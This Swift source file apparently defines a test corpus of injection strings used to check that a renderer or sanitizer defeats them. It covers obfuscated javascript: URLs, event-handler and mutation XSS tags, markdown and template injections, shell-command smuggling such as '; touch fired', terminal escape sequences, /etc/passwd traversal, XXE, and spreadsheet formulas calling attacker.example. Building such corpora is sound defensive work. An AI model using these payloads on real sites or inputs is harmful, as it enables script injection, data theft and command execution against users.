/// A text that tries to run a script, to ask another host, or to deceive whoever reads it.
///
/// Code that runs calls `fired()`; a request goes to `attacker.example`.
struct AttackVector: Hashable, Sendable {
  /// How it tries.
  enum Technique: String, CaseIterable, Sendable {
    case scheme, tag, attribute, mutation, markdown, template, direction, terminal, formula
  }

  let technique: Technique
  let text: String

  /// All vectors, each text once.
  static let all: [AttackVector] = {
    let lists: [(Technique, [String])] = [
      (.scheme, Self.schemes), (.tag, Self.tags), (.attribute, Self.attributes),
      (.mutation, Self.mutations), (.markdown, Self.markdown), (.template, Self.templates),
      (.direction, Self.directions), (.terminal, Self.terminal), (.formula, Self.formulas),
    ]
    var seen: Set<[UInt8]> = []
    return lists.flatMap { technique, texts in
      texts.filter { seen.insert(Array($0.utf8)).inserted }.map {
        AttackVector(technique: technique, text: $0)
      }
    }
  }()
}

extension AttackVector {
  /// Addresses that are more than they seem.
  static let addresses: [String] = {
    let letters = ["javascript", "JaVaScRiPt", "vbscript", "livescript", "mocha"]
    let broken = [
      "java\tscript", "java&Tab;script", "java&#9;script", "java&#x0A;script", "java%0ascript",
      "java\u{AD}script", "java\u{200B}script", "\u{FEFF}javascript", "\u{1}javascript",
      "&#1;javascript", "&#x6A;avascript", "&#106;avascript", "&#0000106;avascript",
      "\u{FF4A}avascript", "jav\u{212A}script", " javascript", "\u{A0}javascript",
      "\u{2028}javascript", "%6aavascript", "\\javascript", "javascript\u{301}",
    ]
    let colons = [":", "&colon;", "&#58;", "&#x3A;", "&#x3a", "%3A", "\u{FF1A}", " :", "\u{0}:"]
    let plain = (letters + broken).map { $0 + ":fired()" }
    let coded = colons.map { "javascript" + $0 + "fired()" }
    return plain + coded + [
      "javascript://attacker.example/%0afired()", "javascript:/*'/*`/*--></title>*/fired()",
      "data:text/html,<script>fired()</script>",
      "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+",
      "DATA:image/svg+xml,<svg onload=fired()>", "data:image/png,x", "data:,x",
      "data:application/xhtml+xml,<x/>", "blob:https://attacker.example/1",
      "filesystem:https://attacker.example/x", "view-source:javascript:fired()",
      "file:///etc/passwd",
      "ftp://attacker.example/x", "jar:https://attacker.example!/x", "about:blank", "intent:x",
      "ms-word:ofe|u|https://attacker.example/x", "search-ms:query=x", "ws://attacker.example",
      "gopher://attacker.example", "x-unknown:fired()", "feed:javascript:fired()",
      "//attacker.example/x.png", "///attacker.example/x.png", "/\\attacker.example/x.png",
      "\\\\attacker.example\\x", "\\/attacker.example", "/\t/attacker.example",
      "/&Tab;/attacker.example",
      "/%09/attacker.example", "https:attacker.example", "http:\\\\attacker.example",
      "https:///attacker.example", "../../../../etc/passwd", "..%2f..%2fetc/passwd", "%00",
      "?x=\"><b>",
      "#\"><script>fired()</script>", "x\" onmouseover=\"fired()", "x' onmouseover='fired()",
      "x`onmouseover=fired()", "x\u{0}javascript:fired()", "x\r\nSet-Cookie: a=b",
    ]
  }()

  fileprivate static let schemes: [String] = addresses.flatMap {
    ["[a](\($0))", "[a](<\($0)>)", "<\($0)>", "<a href=\"\($0)\">a</a>", "![a](\($0))"]
  }

  fileprivate static let tags: [String] = {
    let handlers = [
      "img src=x onerror", "svg onload", "body onload", "video src=x onerror",
      "input autofocus onfocus",
      "details open ontoggle", "marquee onstart", "audio src=x onerror", "iframe onload",
      "style onload", "select autofocus onfocus", "button autofocus onfocus", "a onmouseover",
      "div onpointerenter", "object onerror", "link rel=stylesheet href=x onerror", "form onsubmit",
      "math onclick", "svg><animate onbegin", "svg><set onend", "bdo onmousemove", "q onclick",
      "abbr onmouseover", "kbd onclick", "span onclick", "b onmouseover", "sub onclick",
    ]
    let ways: [(String) -> String] = [
      { "<\($0)=fired()>" }, { "<\($0)=\"fired()\">" }, { "<\($0)='fired()' />" },
      { "<\($0.uppercased())=fired()>" }, { "<\($0.replacing(" ", with: "/"))=fired()//" },
      { "<\($0.replacing(" ", with: "\n"))\n=\nfired()>" }, { "\"'><\($0)=fired()>" },
      { "</p></td></a><\($0)=&#102;ired()>" },
    ]
    let whole = [
      "<script>fired()</script>", "<SCRIPT>fired()</SCRIPT>", "<script >fired()</script >",
      "<script src=//attacker.example/x.js></script>", "<script\u{C}>fired()</script>",
      "<scr<script>ipt>fired()</scr</script>ipt>", "<iframe src=javascript:fired()></iframe>",
      "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
      "<object data=javascript:fired()></object>", "<embed src=javascript:fired()>",
      "<base href=//attacker.example/>",
      "<meta http-equiv=refresh content='0;url=javascript:fired()'>",
      "<link rel=stylesheet href=//attacker.example/x.css>",
      "<link rel=import href=//attacker.example>",
      "<style>@import '//attacker.example/x.css';</style>",
      "<form action=javascript:fired()><button>",
      "<button formaction=javascript:fired()>", "<input type=image src=//attacker.example/x.png>",
      "<a href=x ping=//attacker.example/>a</a>", "<img srcset='//attacker.example/x.png 1x'>",
      "<table background=//attacker.example/x.png>",
      "<div style='background:url(//attacker.example)'>",
      "<video poster=//attacker.example/x.png></video>", "<isindex action=javascript:fired()>",
      "<template><script>fired()</script></template>",
      "<noscript><img src=x onerror=fired()></noscript>",
      "<svg><script>fired()</script></svg>", "<svg><a xlink:href=javascript:fired()>a</a></svg>",
      "<svg><use href=//attacker.example/x.svg#a></svg>",
      "<svg><image href=//attacker.example/x.png></svg>",
      "<svg><foreignObject><body onload=fired()></foreignObject></svg>",
      "<svg><animate attributeName=href values=javascript:fired()></svg>",
      "<math><maction actiontype=statusline xlink:href=javascript:fired()>a</maction></math>",
      "<math href=javascript:fired()>a</math>", "<dialog open><form method=dialog>",
      "<portal src=//attacker.example></portal>", "<slot onslotchange=fired()>", "<x-y is=script>",
      "<textarea></textarea><script>fired()</script>", "<plaintext>",
      "<xmp><script>fired()</script></xmp>",
      "<!--><script>fired()</script>-->", "<!-- --!><script>fired()</script>",
      "<?xml-stylesheet href=x?>",
      "<![CDATA[<script>fired()</script>]]>",
      "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
      "<b\u{0}onmouseover=fired()>", "<\u{0}script>fired()</script>", "＜script＞fired()＜/script＞",
      "%3Cscript%3Efired()%3C/script%3E", "&lt;script&gt;fired()&lt;/script&gt;",
      "\\u003cscript\\u003efired()\\u003c/script\\u003e",
      "+ADw-script+AD4-fired()+ADw-/script+AD4-",
    ]
    return handlers.flatMap { handler in ways.map { $0(handler) } } + whole
  }()

  fileprivate static let attributes: [String] = {
    let events = ["onmouseover", "autofocus onfocus", "onclick", "style=x onpointerover"]
    let quotes = [
      "\"", "'", "&quot;", "&#34;", "&#x27;", "`", "\\\"", "\u{201D}", "\"\u{0}", "%22",
    ]
    return quotes.flatMap { quote in
      events.map { "\(quote) \($0)=\(quote)fired()" } + ["\(quote)><img src=x onerror=fired()>"]
    }
  }()

  fileprivate static let mutations: [String] = {
    let shells = [
      "<math><mtext><table><mglyph><style>%</style>", "<svg></p><style>%</style>",
      "<form><math><mtext></form><form><mglyph><style>%</style>", "<noscript><p title='%'>",
      "<svg><style>%</style></svg>", "<math><annotation-xml encoding=text/html>%",
      "<select><template>%</template>", "<table><td>%</table>", "<title>%</title>", "<textarea>%",
      "<xmp>%", "<iframe>%", "<noembed>%", "<noframes>%", "<style>%", "<listing>%", "<p>`%`",
      "<a title='%'>", "<b><p></b>%</p>", "<svg><desc>%</desc></svg>",
    ]
    let cores = [
      "</style><img src=x onerror=fired()>", "<img title=\"--><img src=x onerror=fired()>\">",
      "<!--</style><img src=x onerror=fired()>-->",
    ]
    return shells.flatMap { shell in cores.map { shell.replacing("%", with: $0) } }
  }()

  fileprivate static let markdown = [
    "![<img src=x onerror=fired()>](x)", "[<script>fired()</script>](b)", "[a]: javascript:fired()",
    "[a](b \"\\\" onmouseover=fired() \")", "[a](b '><script>fired()</script>')",
    "`<b>`<script>fired()",
    "**<b onclick=fired()>**", "~~~\"><script>fired()</script>", "```\" onclick=fired()\n<x>\n```",
    "| <script>fired()</script> | b |", "\\<script>fired()\\</script>",
    "<b>\n\n<script>fired()</script>",
    "> <script>fired()</script>", "- <script>fired()</script>", "# <script>fired()</script>",
    "{#\"onclick=fired()}", "{#x onclick=fired()}",
    "[a](#\" onclick=\"fired())",
    "<br onclick=fired()>", "<bdo dir=\"rtl\" onclick=fired()>x</bdo>", "[!NOTE\" onclick=fired()]",
  ]

  fileprivate static let templates = [
    "{{page_title}}", "{{{page_title}}}", "{{&page_title}}", "{{#page_title}}x{{/page_title}}",
    "{{>layout}}", "{{<layout}}{{/layout}}", "{{=<% %>=}}", "{{! comment", "}}", "{{",
    "{{t.search}}",
    "${fired()}", "#{fired()}", "<%= fired() %>", "<%- fired() %>", "{%raw%}", "{{constructor}}",
    "{{7*7}}", "${{7*7}}", "[[${7*7}]]", "{locale}", "{count}", "{title}", "$(touch fired)",
    "`touch fired`", "; touch fired", "| touch fired", "%n%n%s", "%s%s%s%s", "!!python/object:x",
    "__proto__", "constructor", "toString", "hasOwnProperty", "\u{FF}h0\u{FE}", "\u{E000}",
  ]

  fileprivate static let directions: [String] = {
    let signs: [Unicode.Scalar] = [
      "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}",
      "\u{2068}",
      "\u{2069}", "\u{200E}", "\u{200F}", "\u{61C}", "\u{200B}", "\u{200C}", "\u{200D}", "\u{2060}",
      "\u{FEFF}", "\u{AD}", "\u{34F}", "\u{2028}", "\u{2029}", "\u{85}", "\u{E0041}", "\u{FFF9}",
      "\u{180E}", "\u{3164}", "\u{1D173}", "\u{FE0F}",
    ]
    return signs.flatMap { ["admin\($0)nimda", "\($0)<b>x</b>"] }
  }()

  fileprivate static let terminal = [
    "\u{1B}[2J", "\u{1B}[31mred", "\u{1B}]0;title\u{7}",
    "\u{1B}]8;;https://attacker.example\u{1B}\\x",
    "\u{1B}P+q\u{1B}\\", "\u{9B}31m", "\u{9D}0;x\u{9C}", "\u{1B}c", "\u{1B}[6n",
    "\u{1B}]52;c;eA==\u{7}",
    "a\u{8}\u{8}b", "a\rb", "\u{7}", "\u{0}", "\u{E}", "\u{7F}", "\u{1B}[1;1H", "\u{90}x\u{9C}",
    "\u{85}",
    "::error file=x::fired", "\n::set-output name=x::y", "##vso[task.complete]", "\n2: error: x",
  ]

  fileprivate static let formulas = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "=HYPERLINK(\"https://attacker.example\",\"x\")", "=WEBSERVICE(\"https://attacker.example\")",
    "\"=1+1", "',=1+1", "a\n=1+1", ";=1+1", " =1+1", "\u{FEFF}=1+1", "\u{FF1D}1+1", "\u{A0}=1",
    "%=1",
    "_x003D_1+1", "=IMPORTXML(\"https://attacker.example\",\"//a\")", "-2+3+cmd|' /C calc'!D2",
    "\"\"=1",
  ]
}
